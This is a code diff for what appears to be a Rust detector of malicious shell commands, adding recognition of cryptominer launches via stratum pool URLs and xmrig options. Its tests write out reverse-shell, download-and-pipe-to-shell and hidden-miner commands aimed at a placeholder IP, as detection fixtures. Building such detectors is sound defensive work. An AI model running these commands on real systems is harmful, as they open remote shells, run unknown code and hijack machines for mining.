@@ -28,6 +28,8 @@ pub(super) enum Sign {
     RunsHidden(Vec<u8>),
     /// It starts something again that is not running, from a place where no service lies.
     RestartsIfMissing(Vec<u8>),
+    /// It mines: it is told the address of a pool by the protocol that only miners speak, or has a miner's options.
+    Mines,
 }
 
 impl Sign {
@@ -41,13 +43,14 @@ impl Sign {
             Self::RunsFromTemporary(_) => "runs a program in a folder that anybody can write to",
             Self::RunsHidden(_) => "runs a hidden program",
             Self::RestartsIfMissing(_) => "restarts a program that is no service",
+            Self::Mines => "mines a cryptocurrency",
         }
     }
 
     /// The path it is about.
     pub(super) fn path(&self) -> Option<&[u8]> {
         match self {
-            Self::DownloadsAndRuns | Self::DecodesAndRuns | Self::ConnectsShell => None,
+            Self::DownloadsAndRuns | Self::DecodesAndRuns | Self::ConnectsShell | Self::Mines => None,
             Self::WritesPhp(path)
             | Self::RunsFromTemporary(path)
             | Self::RunsHidden(path)
@@ -471,6 +474,7 @@ impl Judge {
             }
             self.inline(&program, depth);
             self.shells(&program);
+            self.mines(&program);
             self.writes(command, &program, has_download || has_decoder);
             if program.is_downloader() {
                 has_download = true;
@@ -538,6 +542,24 @@ impl Judge {
         };
         if connects {
             self.signs.insert(Sign::ConnectsShell);
+        }
+    }
+
+    /// Stratum is the protocol of mining pools; the options are those of xmrig (<https://xmrig.com/docs/miner/command-line-options>).
+    fn mines(&mut self, program: &Program<'_>) {
+        const POOLS: [&[u8]; 4] = [b"stratum+tcp://", b"stratum+ssl://", b"stratum+tls://", b"stratum2+tcp://"];
+        const OPTIONS: [&[u8]; 3] = [b"--donate-level", b"--randomx-", b"--coin=monero"];
+        // Who looks for a miner names the same words.
+        const SEEKERS: [&[u8]; 14] = [
+            b"grep", b"egrep", b"fgrep", b"zgrep", b"rg", b"pgrep", b"pkill", b"echo", b"printf", b"sed", b"awk",
+            b"find", b"tcpdump", b"ngrep",
+        ];
+        let is_told = |word: &Word| {
+            POOLS.iter().any(|pool| super::find(&word.text, pool).is_some())
+                || OPTIONS.iter().any(|option| word.text.starts_with(option))
+        };
+        if !SEEKERS.contains(&program.name()) && program.arguments.iter().any(is_told) {
+            self.signs.insert(Sign::Mines);
         }
     }
 
@@ -686,7 +708,7 @@ mod tests {
 
     #[test]
     fn what_an_intruder_writes_is_seen() {
-        use Sign::{ConnectsShell, DecodesAndRuns, DownloadsAndRuns};
+        use Sign::{ConnectsShell, DecodesAndRuns, DownloadsAndRuns, Mines};
         for (command, sign) in [
             ("curl -s http://192.0.2.1/x | sh", DownloadsAndRuns),
             ("curl -fsSL http://192.0.2.1/x|sudo -u root /bin/bash -s -- a", DownloadsAndRuns),
@@ -706,8 +728,22 @@ mod tests {
             ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", ConnectsShell),
             ("exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | sh >&5", ConnectsShell),
             ("nc 192.0.2.1 4444 -e /bin/sh", ConnectsShell),
+            ("/var/tmp/.x/kworker -o stratum+tcp://192.0.2.1:3333 -u x -p x", Mines),
+            ("nohup setsid /opt/sys --donate-level=1 -o 192.0.2.1:443 &", Mines),
         ] {
             assert!(signs(command.as_bytes()).contains(&sign), "{command}: {:?}", signs(command.as_bytes()));
+        }
+    }
+
+    #[test]
+    fn who_looks_for_a_miner_is_none() {
+        for command in [
+            "ps aux | grep stratum+tcp://",
+            "pkill -f stratum+ssl://",
+            "echo 'look for --donate-level'",
+            "tcpdump -A 'port 3333'",
+        ] {
+            assert!(!signs(command.as_bytes()).contains(&Sign::Mines), "{command}");
         }
     }
 
